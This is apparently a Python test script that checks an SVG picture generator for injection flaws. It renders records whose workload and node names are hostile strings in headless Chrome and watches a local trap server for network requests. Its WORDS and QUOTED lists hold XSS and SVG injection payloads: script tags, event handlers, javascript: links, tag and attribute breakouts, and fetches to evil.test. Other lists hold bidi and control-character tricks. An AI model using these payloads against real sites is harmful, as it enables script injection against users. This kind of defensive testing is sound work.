#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Pictures of hostile names in a real browser (T6).

browser.py records RECORD FOLDER   per hostile word a record whose workload has that
                                   name, and one on a node of that name, in
                                   folders that one picture has room for
browser.py open BROWSER FILE...    opens each, prints "calm" or "acts: WHY"
browser.py wild BROWSER            opens each hostile word as if nothing had
                                   escaped it, prints the same and the word
browser.py shown FILE...           words that no file shows as text

A document acts when, after it was loaded and a second went by, its elements,
attributes or texts are not those that stand in the file, when it holds what
our pictures never hold, or when it asked the network for something: every
name leads to a server in here.
"""
import http.server
import json
import os
import subprocess
import sys
import tempfile
import threading
import unicodedata
import xml.etree.ElementTree as ET

SVG = "{http://www.w3.org/2000/svg}"
ELEMENTS = {SVG + n for n in ("svg", "g", "rect", "text", "line", "circle")}
ATTRIBUTES = {"width", "height", "viewBox", "font-family", "font-size", "fill", "transform", "x", "y",
              "text-anchor", "x1", "x2", "y1", "y2", "stroke", "stroke-width", "stroke-dasharray",
              "cx", "cy", "r"}

# At most 63 bytes: what a name of a node may have.
RUN = "document.title=1"
WORDS = [
    f"<script>{RUN}</script>",
    "<script href='http://evil.test/x.js'/>",
    f'<image href="http://evil.test/x" onerror="{RUN}"/>',
    "<image href='http://evil.test/pixel'/>",
    f"<animate onbegin='{RUN}' attributeName='x' dur='9'/>",
    f'<set attributeName="onload" to="{RUN}"/>',
    f'<a href="javascript:{RUN}">click</a>',
    "<style>@import 'http://evil.test/x.css';</style>",
    "<use href='http://evil.test/x.svg#y'/>",
    f"<foreignObject><b onclick='{RUN}'/></foreignObject>",
    "<title>another title</title>",
    f"</text><script>{RUN}</script><text>",
    f"<!-- --><script>{RUN}</script>",
    f"<![CDATA[x]]><script>{RUN}</script>",
    "</text></svg>",
    "a & b",
    "&bogus;",
    "&#1;",
    "\x01\x1b[2J\x7f",
    "\ufffe\uffff",
]
QUOTED = [f'" onload="{RUN}', f"' onload='{RUN}"]  # inside of an attribute
TRICKS = [  # must be shown letter by letter, though nothing acts when they are not
    "&lt;script&gt;", "&#60;b&#62;", "%3Cscript%3E", "\\u003cb\\u003e", "]]>", "<b", "--><?x y?>",
    "\u202egnp.\u2066x\u2069", "a\u061c\u200eb", "caf\u00e9 \u6f22\u5b57 \U0001f600", "=1+1",
]


def clean(word):
    """What utf8_clean() and XML leave of it."""
    def steers(c):
        return (unicodedata.category(chr(c)) in ("Cc", "Zl", "Zp") or c in (0x61c, 0xfeff, 0xfffe, 0xffff)
                or 0x200b <= c <= 0x200f or 0x202a <= c <= 0x202e or 0x2060 <= c <= 0x206f)
    return "".join("?" if steers(ord(c)) else c for c in word)


def all_words():
    return WORDS + QUOTED + TRICKS


# ---- records ----

PANELS = 12  # of a picture


def hostile(source, job, **names):
    """The record with these names where the history would show them."""
    with open(source) as f:
        record = json.load(f)
    name = names.get("node", "n1")
    record["job"].update(job_id=job, nodes=[name], **dict.fromkeys(("user", "account", "partition"),
                                                                   names.get("workload", "ada")))
    record["id"] = f"lab-{job}.0.3"
    work = record["workloads"][0]
    work["name"] = names.get("workload", "w")
    work["class"] = "c"
    for phase in work["phases"].values():
        phase["max_node"] = name
        for rank in phase["worst"]:
            rank["node"] = name
    return record


def records(source, folder):
    for i, word in enumerate(all_words()):
        place = f"{folder}/{i // PANELS}"
        os.makedirs(place, exist_ok=True)
        for k, what in enumerate(("workload", "node")):
            with open(f"{place}/{what}{i:02}.json", "w") as out:
                json.dump(hostile(source, 8000 + 100 * k + i, **{what: word}), out)


# ---- the browser ----

class Trap(http.server.BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):
        Trap.hits.append(self.headers.get("Host", "") + self.path)
        self.send_error(404)

    def log_message(self, *_):
        pass


class Browser:
    def __init__(self, program):
        self.program = program
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.home = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)

    def dump(self, path):
        """The document after its scripts ran, as the browser has it."""
        port = self.server.server_address[1]
        return subprocess.run(
            [self.program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
             f"--user-data-dir={self.home.name}", f"--host-resolver-rules=MAP evil.test 127.0.0.1:{port}, MAP * ~NOTFOUND",
             "--virtual-time-budget=1000", "--dump-dom", "file://" + os.path.abspath(path)],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=120, check=True,
            env={**os.environ, "HOME": self.home.name}).stdout.decode()

    def acts(self, path):
        """Why it is not just what stands there; None when it is."""
        Trap.hits.clear()
        text = self.dump(path)
        if Trap.hits:
            return f"it asked for {Trap.hits[0]}"
        if "<parsererror" in text:
            return "an error page instead of a document"
        loaded = [node(e) for e in ET.fromstring(text).iter()]
        alien = [n for n in loaded if n[0] not in ELEMENTS or not set(n[1]) <= ATTRIBUTES]
        if alien:
            return f"it holds {alien[0][0]} {alien[0][1]}"
        written = [node(e) for e in ET.parse(path).getroot().iter()]
        return None if loaded == written else "it is not what was written"


def node(e):
    return e.tag, dict(e.attrib), (e.text or "").strip(), (e.tail or "").strip()


def verdict(browser, path):
    why = browser.acts(path)
    return f"acts: {why}" if why else "calm"


def wild(program):
    browser = Browser(program)
    with tempfile.TemporaryDirectory() as folder:
        for word, inside in [(w, '<text>%s</text>') for w in WORDS] + \
                            [(w, '<svg id=' + w[0] + '%s' + w[0] + '/>') for w in QUOTED]:
            path = f"{folder}/wild.svg"
            with open(path, "w") as f:
                f.write('<svg xmlns="http://www.w3.org/2000/svg">' + inside % word + "</svg>")
            print(f"{verdict(browser, path)}\t{word!r}", flush=True)


def shown(paths):
    texts = [e.text or "" for p in paths for e in ET.parse(p).getroot().iter(SVG + "text")]
    for word in all_words():
        if not any(clean(word) in t for t in texts):
            print(repr(word))


if sys.argv[1] == "records":
    records(*sys.argv[2:])
elif sys.argv[1] == "open":
    BROWSER = Browser(sys.argv[2])
    for name in sys.argv[3:]:
        print(verdict(BROWSER, name))
elif sys.argv[1] == "wild":
    wild(sys.argv[2])
else:
    shown(sys.argv[2:])
